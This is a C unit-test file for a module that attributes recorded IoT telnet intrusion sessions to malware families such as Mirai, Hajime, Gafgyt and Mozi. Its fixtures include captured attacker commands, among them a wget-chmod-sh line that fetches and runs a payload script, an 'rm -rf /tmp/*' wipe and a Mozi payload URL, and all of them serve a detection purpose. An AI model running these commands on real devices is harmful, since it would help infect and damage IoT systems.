/* family_test.c - family attribution from dialogues in iot-threats.md §2. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <string.h>

#include <cmocka.h>

#include "analysis/family.h"

static const char *attribute(const char *const *cmds, const char *url)
{
	static struct family_tracker t;

	family_init(&t);
	for (; *cmds; cmds++)
		family_feed_command(&t, *cmds, strlen(*cmds));
	if (url)
		family_feed_url(&t, url, strlen(url));
	return family_name(&t);
}

static void test_mirai_scanner(void **state)
{
	static const char *const stock[] = {"enable", "system", "shell", "sh", "/bin/busybox MIRAI", NULL};
	/* A variant with its own token and the opening in another order. */
	static const char *const corona[] = {"enable", "sh", "shell", "linuxshell", "system", "/bin/busybox CORONA",
					     NULL};
	static const char *const nosystem[] = {"enable", "shell", "sh", "/bin/busybox OWARI", NULL};
	struct family_tracker t;

	(void)state;
	assert_string_equal(attribute(stock, NULL), "mirai");
	assert_string_equal(attribute(corona, NULL), "mirai");
	/* Without `system` a private token is not enough for Mirai. */
	assert_string_equal(attribute(nosystem, NULL), "");
	family_init(&t);
	family_feed_command(&t, "cat /proc/mounts; /bin/busybox PQLUR", 36);
	assert_string_equal(family_token(&t), "PQLUR");
}

static void test_mirai_loader(void **state)
{
	static const char *const loader[] = {"enable", "shell", "sh", "/bin/busybox ECCHI", NULL};
	static const char *const dropper[] = {"cd /tmp/; >dvrHelper; chmod 777 dvrHelper", NULL};

	(void)state;
	assert_string_equal(attribute(loader, NULL), "mirai");
	assert_string_equal(attribute(dropper, NULL), "mirai");
}

static void test_hajime(void **state)
{
	static const char *const h[] = {"enable",
					"shell",
					"sh",
					"cat /proc/mounts; /bin/busybox PEGOK",
					"cd /var; (cat .s || cp /bin/echo .s)",
					"nc; wget; /bin/busybox PEGOK",
					"(dd bs=52 count=1 if=.s || cat .s)",
					NULL};

	(void)state;
	assert_string_equal(attribute(h, NULL), "hajime");
}

static void test_gafgyt_mozi_unknown(void **state)
{
	static const char *const g[] = {"sh", "/bin/busybox;echo -e '\\147\\141\\171\\146\\147\\164'", NULL};
	static const char *const q[] = {"cd /tmp; wget http://198.51.100.9/bins.sh; chmod 777 bins.sh; sh bins.sh",
					NULL};
	static const char *const m[] = {"rm -rf /tmp/*", NULL};
	static const char *const person[] = {"ls", "uname -a", "cat /etc/passwd", "busybox ls", NULL};

	(void)state;
	assert_string_equal(attribute(g, NULL), "gafgyt");
	assert_string_equal(attribute(q, NULL), "gafgyt");
	assert_string_equal(attribute(m, "http://198.51.100.3:8088/Mozi.m"), "mozi");
	assert_string_equal(attribute(person, NULL), "");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_mirai_scanner),
		cmocka_unit_test(test_mirai_loader),
		cmocka_unit_test(test_hajime),
		cmocka_unit_test(test_gafgyt_mozi_unknown),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
